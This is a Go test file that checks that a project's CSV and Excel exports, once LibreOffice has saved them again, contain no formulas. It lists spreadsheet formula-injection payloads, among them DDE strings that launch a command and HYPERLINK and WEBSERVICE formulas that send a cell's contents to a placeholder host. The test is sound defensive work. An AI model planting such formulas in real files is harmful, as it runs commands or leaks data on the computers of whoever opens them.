package spreadsheet_test

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"vigil/internal/question"
	"vigil/internal/spreadsheet"
	"vigil/internal/vigil"
)

// payloads are texts that some spreadsheet program would run.
var payloads = []string{
	"=1+1", "=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0", "@SUM(1+1)*cmd|'/c calc'!A0", `=HYPERLINK("http://example.org/?x="&A1,"here")`,
	`=WEBSERVICE("http://example.org/"&A1)`, `=IMPORTXML("http://example.org/","//a")`, `=DDE("cmd";"/c calc";"x")`, "\t=1+1", "\r=1+1", "'=1+1",
	"=1+1\n=2+2", "=\"a,b;c\"&A1", "＝1+1", `=INFO("osversion")`,
}

// What a person wrote comes out of LibreOffice as the text that it was: no workbook, report or csv file of ours has a
// formula in it that they wrote.
func TestNoTextBecomesAFormula(t *testing.T) {
	b := ofUnits(t)
	b.Answers, b.Evidence = nil, nil
	questions := strings.Fields("BE.0.1 BE.a.1 BE.a.2 BE.b.1")
	var table vigil.Table
	table.Title, table.Columns = "=1+1", []vigil.Column{{Title: "=1+1", Kind: "text"}, {Title: "=2+2", Kind: "band"}}
	for i, p := range payloads {
		b.Answers = append(b.Answers, vigil.Answer{Unit: strings.TrimSpace(p), Question: questions[i%len(questions)], State: vigil.Refused, Note: p})
		b.Evidence = append(b.Evidence, vigil.Evidence{Unit: strings.TrimSpace(p), Question: questions[i%len(questions)], Title: strings.TrimSpace(p), Grade: vigil.E1, Quote: p})
		table.Rows = append(table.Rows, []vigil.Cell{{Text: p}, {Text: p}})
	}
	b.Organisation.Name = payloads[1]
	report := vigil.Report{ID: "gap", Title: payloads[1], Subtitle: payloads[2], Sections: []vigil.ReportSection{{Title: payloads[3], Blocks: []vigil.Block{{Paragraph: payloads[4]}, {Table: &table}}}}}
	dir := t.TempDir()
	csvName, reportName := filepath.Join(dir, "answers.csv"), filepath.Join(dir, "report.xlsx")
	save(t, csvName, func(w *bytes.Buffer) error { return spreadsheet.WriteCSV(w, b.Answers, "=acme") })
	save(t, reportName, func(w *bytes.Buffer) error { return spreadsheet.WriteReport(w, report) })
	name := savedByOffice(t, written(t, b), csvName, reportName)
	cells := 0
	for _, file := range []string{name, filepath.Join(filepath.Dir(name), "answers.xlsx"), filepath.Join(filepath.Dir(name), "report.xlsx")} {
		cells += noFormulas(t, file)
	}
	t.Logf("%d payloads in 3 files: %d cells read after LibreOffice saved them, formulas 0", len(payloads), cells)
	sub, ps := spreadsheet.ReadWorkbook(name)
	if len(ps) > 0 {
		t.Fatal(ps)
	}
	readings, ps := question.ReadAll(b.Questionnaire, b.Methodology, sub)
	if len(ps) > 0 {
		t.Fatal(ps)
	}
	var notes []string
	for _, r := range readings {
		notes = append(notes, r.Answer.Note)
	}
	want := slices.Sorted(slices.Values(payloads))
	if diff := cmp.Diff(want, slices.Sorted(slices.Values(notes))); diff != "" {
		t.Error(diff)
	}
}

func save(t *testing.T, name string, write func(*bytes.Buffer) error) {
	t.Helper()
	var out bytes.Buffer
	if err := write(&out); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(name, out.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
}

// noFormulas counts the cells of a workbook, none of which may be a formula.
func noFormulas(t *testing.T, file string) (cells int) {
	t.Helper()
	f := openBook(t, file)
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c := range row {
				cell, err := excelize.CoordinatesToCellName(c+1, r+1)
				if err != nil {
					t.Fatal(err)
				}
				cells++
				if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" {
					t.Errorf("%s: %s!%s holds the formula %q (%v)", filepath.Base(file), sheet, cell, formula, err)
				}
			}
		}
	}
	if cells == 0 {
		t.Errorf("%s is empty", file)
	}
	return cells
}
